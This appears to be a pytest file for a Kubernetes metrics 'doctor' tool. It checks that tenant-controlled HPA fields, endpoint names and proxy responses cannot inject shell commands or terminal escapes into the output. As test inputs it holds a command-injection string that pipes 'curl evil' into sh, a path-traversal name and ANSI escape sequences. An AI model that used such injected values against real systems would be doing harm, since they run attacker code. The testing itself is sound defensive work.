"""What tenants, or a server in between, write into objects cannot harm the reader."""

import asyncio
import shlex
from collections.abc import Mapping
from pathlib import Path

import pytest
from aiohttp import web
from aiohttp.test_utils import TestServer
from msgspec import convert

from metrics_server.config.sections import Config
from metrics_server.doctor.asking import Answered, Asked, Item
from metrics_server.doctor.checks import hpa_target, selection
from metrics_server.doctor.explaining import Explained, as_text
from metrics_server.doctor.exporters import found_in
from metrics_server.doctor.hpa import Hpa
from metrics_server.kube.autoscalers import MetricType
from metrics_server.kube.endpoints import EndpointSlice
from metrics_server.kube.labels import Requirement, Selector
from tests.doctor.running import status_of
from tests.doctor.scene import PODS_METRIC, hpa
from tests.doctor.test_hpa_judgements import RULES
from tests.support.commands import kubeconfig

# Kubernetes checks neither the selector of an HPA's metric, nor much of its name.
HARM = "x'; curl evil | sh; '"
SELECTOR = Selector((Requirement("app", "=", (HARM,)),))


def words(command: str) -> list[str]:
    """The words of a command, as a shell parses them."""
    return shlex.split(command, comments=True)


def test_a_command_to_paste_is_one_command() -> None:
    """Whatever an HPA contains, it stays one word of the command."""
    asked = Asked("External", HARM, "default", SELECTOR)
    why_not = as_text([Explained(asked, Answered(error="none", status=404))]).splitlines()[-1]
    assert HARM in words(why_not)
    assert f"app={HARM}" in words(why_not)
    of_pods = Asked("Pods", "gpu_utilization", "default", SELECTOR)
    fixes = [problem.fix for problem in selection.judge([of_pods], RULES, (), "ready").problems]
    condition = {"type": "AbleToScale", "status": "False", "reason": "r", "message": "m"}
    made = hpa(PODS_METRIC, status={"conditions": [{**condition}]})
    made["spec"] = {**convert(made["spec"], dict), "scaleTargetRef": {"kind": HARM, "name": HARM}}
    fixes += [one.fix for one in hpa_target.judge(convert(made, Hpa), "default", "h").problems]
    assert len(fixes) == 2
    for line in "\n".join(fixes).splitlines():
        assert "curl" not in words(line)


@pytest.mark.parametrize(
    "target",
    [
        {"name": HARM},
        {"name": "a", "namespace": HARM},
        {"name": "a/../../../secrets"},
        {"name": "-a"},
        {"name": "\x1b[2J"},
    ],
)
def test_an_endpoint_names_no_pod_but_by_a_pods_name(target: Mapping[str, str]) -> None:
    """The name is used in commands, and in the path of the pod's page."""
    endpoint = {"addresses": ["10.0.0.1"], "nodeName": "n", "targetRef": target}
    slices = [
        {
            "metadata": {
                "name": name,
                "namespace": "gpu-monitoring",
                "labels": {"kubernetes.io/service-name": "dcgm-exporter"},
            },
            "endpoints": [{**endpoint, "conditions": {"ready": name == "ready"}}],
            "ports": [{"port": 9400}],
            "addressType": "IPv4",
        }
        for name in ("ready", "unready")
    ]
    found = found_in(Config(), convert(slices, list[EndpointSlice]))
    assert [one.pod for one in found.exporters.values()] == [None]
    assert list(found.unready) == ["10.0.0.1"]


@pytest.mark.parametrize("kind", ["Pods", "External"])
def test_an_answer_does_not_control_the_terminal(kind: MetricType) -> None:
    """The answer may be another server's."""
    harm = "\x1b[2J\x9b"
    item = Item(harm, harm, {harm: harm}, convert({"name": harm}, type(Item("").described_object)))
    text = as_text([Explained(Asked(kind, harm, "default", SELECTOR), Answered([item]), ())])
    assert "[2J" in text
    assert all(line.isprintable() for line in text.splitlines())


@pytest.mark.parametrize(
    ("answer", "status"),
    [("<html>log in\x1b[2J</html>", 200), ('{"message": "no\\u001b[2J"}', 403)],
)
@pytest.mark.parametrize("command", [["top"], ["ask", "--hpa", "h"], ["ask", "m", "-l", "a=b"]])
async def test_a_proxy_in_the_way(
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
    command: list[str],
    answer: str,
    status: int,
) -> None:
    """Its page is not a Kubernetes API's answer, which is reported without a traceback."""

    async def respond(_: web.Request) -> web.Response:
        return web.Response(text=answer, status=status)

    app = web.Application()
    app.router.add_route("*", "/{path:.*}", respond)
    async with TestServer(app) as server:
        config = kubeconfig(tmp_path, str(server.make_url("")).rstrip("/"))
        line = [*command, "--kubeconfig", str(config)]
        assert await asyncio.to_thread(status_of, line)
    shown = "".join(capsys.readouterr())
    assert "Traceback" not in shown
    assert all(one.isprintable() for one in shown.splitlines())
